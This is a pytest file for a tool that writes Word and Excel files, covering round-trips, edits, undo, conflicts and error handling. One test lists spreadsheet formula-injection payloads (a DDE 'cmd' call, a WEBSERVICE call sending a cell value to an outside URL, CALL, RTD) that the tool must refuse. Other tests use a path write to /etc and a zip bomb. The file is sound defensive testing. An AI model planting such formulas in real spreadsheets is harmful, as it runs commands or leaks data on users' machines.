"""Word and Excel written from Markdown and rows, read back equal, changed without loss, undone like any write."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import docx
import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from homeport_files.office.reports import write_report
from homeport_files.office.workbooks import Sheet, write_workbook
from homeport_shared.documents import extract_bytes

pytestmark = pytest.mark.anyio
REPORT = """# Rent in 2026

The rent **rises** in *May*.

## Where it comes from

- heating
- water

| Month | Rent |
|---|---|
| April | 900 |
| May | 950 |

> Agreed by both.
"""


def book(files: Any, name: str) -> Any:
    return openpyxl.load_workbook(files.folder / name)


async def test_a_report_is_written_from_markdown_and_read_back(files: Any) -> None:
    change = await files("write_document", path="docs/rent.docx", markdown=REPORT)
    assert change["kind"] == "created"
    text = (await files("read", path="docs/rent.docx"))["text"]
    assert text.split("\n\n") == [
        "# Rent in 2026",
        "The rent rises in May.",
        "## Where it comes from",
        "- heating\n- water",
        "Month | Rent\nApril | 900\nMay | 950",
        "Agreed by both.",
    ]
    document = docx.Document(files.folder / "rent.docx")
    assert document.core_properties.title == "Rent in 2026"
    assert [run.text for run in document.paragraphs[1].runs if run.bold] == ["rises"]
    assert document.paragraphs[-1].style.name == "Quote"


async def test_styles_of_the_document_can_be_chosen(files: Any) -> None:
    styles = {"table": "light grid accent 1", "quote": "Intense Quote"}
    await files("write_document", path="docs/a.docx", markdown=REPORT, styles=styles)
    document = docx.Document(files.folder / "a.docx")
    assert document.tables[0].style.name == "Light Grid Accent 1"
    code, text = await files.fails("write_document", path="docs/b.docx", markdown="x", styles={"table": "Nice"})
    assert (code, "Light Grid" in text) == ("invalid", True)


async def test_a_report_is_changed_where_asked_and_extended(files: Any) -> None:
    await files("write_document", path="docs/rent.docx", markdown=REPORT)
    await files(
        "write_document",
        path="docs/rent.docx",
        mode="edit",
        replace={"rises": "falls", "950": "850"},
        markdown="## Next",
    )
    text = (await files("read", path="docs/rent.docx"))["text"]
    assert "The rent falls in May." in text and "May | 850" in text and text.endswith("## Next")
    document = docx.Document(files.folder / "rent.docx")
    assert [run.text for run in document.paragraphs[1].runs if run.bold] == ["falls"], "its look stays"
    assert (await files.fails("write_document", path="docs/rent.docx", mode="edit", replace={"no": "x", "zz": "y"}))[
        0
    ] == "not_found"


async def test_what_was_written_can_be_taken_back(files: Any) -> None:
    await files("write_document", path="docs/a.docx", markdown="one")
    before = (files.folder / "a.docx").read_bytes()
    assert (await files.fails("write_document", path="docs/a.docx", markdown="two"))[0] == "conflict"
    await files("write_document", path="docs/a.docx", markdown="two", mode="edit")
    await files("restore", path="docs/a.docx")
    assert (files.folder / "a.docx").read_bytes() == before


async def test_a_change_to_something_else_than_was_read_is_a_conflict(files: Any) -> None:
    await files("write_document", path="docs/a.docx", markdown="one")
    arguments = {"path": "docs/a.docx", "markdown": "two", "mode": "edit", "if_sha256": "0" * 64}
    assert (await files.fails("write_document", **arguments))[0] == "conflict"


async def test_a_workbook_has_values_formulas_formats_and_charts(files: Any) -> None:
    rows = [
        ["Month", "Rent", "Paid on"],
        ["April", 900.5, "2026-04-01"],
        ["May", 950, "2026-05-01"],
        ["Sum", "=SUM(B2:B3)"],
    ]
    sheet = {"name": "Rent", "rows": rows, "formats": {"B2:B4": "0.00"}}
    sheet["charts"] = [{"kind": kind, "range": "A1:B3", "title": kind} for kind in ("bar", "line", "pie", "scatter")]
    await files("write_document", path="docs/rent.xlsx", sheets=[sheet])
    page = book(files, "rent.xlsx")["Rent"]
    assert (page["B2"].value, page["B4"].value, page["B4"].number_format) == (900.5, "=SUM(B2:B3)", "0.00")
    assert page["C2"].value.isoformat() == "2026-04-01T00:00:00"
    assert len(page._charts) == 4
    preview = await files("preview", path="docs/rent.xlsx")
    assert preview["columns"] == ["Month", "Rent", "Paid on"]
    assert preview["rows"][0] == ["April", "900.5", "2026-04-01"]


async def test_a_workbook_is_extended_and_keeps_what_it_had(files: Any) -> None:
    sheet = {"name": "Rent", "rows": [["Month", "Rent"], ["April", 900]], "charts": [{"kind": "bar", "range": "A1:B2"}]}
    await files("write_document", path="docs/a.xlsx", sheets=[sheet])
    more = [
        {"name": "Rent", "rows": [["May", 950]]},
        {"name": "Rent", "rows": [["Total"]], "start": "D9"},
        {"name": "Notes", "rows": [["'=no formula"]]},
    ]
    await files("write_document", path="docs/a.xlsx", mode="edit", sheets=more)
    changed = book(files, "a.xlsx")
    assert [cell.value for cell in changed["Rent"][3]][:2] == ["May", 950]
    assert changed["Rent"]["D9"].value == "Total"
    assert (changed["Notes"]["A1"].value, changed["Notes"]["A1"].data_type) == ("=no formula", "s")
    assert len(changed["Rent"]._charts) == 1


@pytest.mark.parametrize(
    "formula", ["=cmd|'/c calc'!A0", '=WEBSERVICE("http://x/"&A1)', "=CALL(1)", '=SUM(1)+rtd("a","b","c")']
)
async def test_a_formula_that_reaches_out_is_refused(files: Any, formula: str) -> None:
    code, _ = await files.fails("write_document", path="docs/a.xlsx", sheets=[{"name": "A", "rows": [[formula]]}])
    assert code == "denied"
    assert not (files.folder / "a.xlsx").exists()


@pytest.mark.parametrize(
    ("arguments", "code"),
    [
        ({"path": "docs/a.odt", "markdown": "x"}, "unsupported"),
        ({"path": "docs/a.docx"}, "invalid"),
        ({"path": "docs/a.docx", "sheets": [{"name": "A"}]}, "invalid"),
        ({"path": "docs/a.xlsx", "markdown": "x"}, "invalid"),
        ({"path": "docs/a.docx", "markdown": "bell \x07"}, "invalid"),
        ({"path": "docs/a.xlsx", "sheets": [{"name": "a/b", "rows": [["x"]]}]}, "invalid"),
        ({"path": "docs/a.xlsx", "sheets": [{"name": "A", "rows": [["x"]], "start": "here"}]}, "invalid"),
        ({"path": "docs/a.xlsx", "sheets": [{"name": "A", "rows": [["x"]], "formats": {"?": "0"}}]}, "invalid"),
        ({"path": "docs/a.xlsx", "sheets": [{"name": "A", "charts": [{"kind": "pie", "range": "A1"}]}]}, "invalid"),
        ({"path": "docs/none.docx", "markdown": "x", "mode": "edit"}, "not_found"),
        ({"path": "/etc/a.docx", "markdown": "x"}, "denied"),
    ],
)
async def test_what_cannot_be_written_is_said(files: Any, arguments: dict[str, Any], code: str) -> None:
    assert (await files.fails("write_document", **arguments))[0] == code


async def test_a_workbook_with_parts_that_would_be_lost_is_not_changed(files: Any) -> None:
    await files("write_document", path="docs/a.xlsx", sheets=[{"name": "A", "rows": [[1]]}])
    path = files.folder / "a.xlsx"
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/slicers/slicer1.xml", "<slicers/>")
    before = path.read_bytes()
    code, text = await files.fails(
        "write_document", path="docs/a.xlsx", mode="edit", sheets=[{"name": "A", "rows": [[2]]}]
    )
    assert (code, "slicer" in text, path.read_bytes() == before) == ("unsupported", True, True)


@pytest.mark.slow
async def test_a_document_that_explodes_is_not_opened(files: Any) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"\0" * 400_000_000)
    files.put("bomb.docx", out.getvalue())
    assert (await files.fails("write_document", path="docs/bomb.docx", markdown="x", mode="edit"))[0] == "too_large"


WORDS = st.text(st.characters(categories=["L", "Nd"]), min_size=1, max_size=12)


@pytest.mark.slow
@given(st.lists(st.tuples(st.sampled_from(["# ", "## ", "", "- "]), WORDS), min_size=1, max_size=12))
def test_every_report_is_read_back_equal(pieces: list[tuple[str, str]]) -> None:
    markdown = "\n\n".join(mark + words for mark, words in pieces)
    document = extract_bytes(write_report(None, markdown, {}, {}, "a.docx"), "a.docx")
    assert [line for line in document.text.split("\n") if line] == [mark + words for mark, words in pieces]


@given(
    st.lists(
        st.lists(st.one_of(st.integers(-(10**9), 10**9), WORDS, st.booleans()), min_size=1, max_size=5),
        min_size=1,
        max_size=8,
    )
)
def test_every_sheet_is_read_back_equal(rows: list[list[Any]]) -> None:
    data = write_workbook(None, [Sheet(name="A", rows=rows)], "a.xlsx")
    page = openpyxl.load_workbook(io.BytesIO(data))["A"]
    assert [[cell.value for cell in row][: len(rows[n])] for n, row in enumerate(page.iter_rows())] == rows
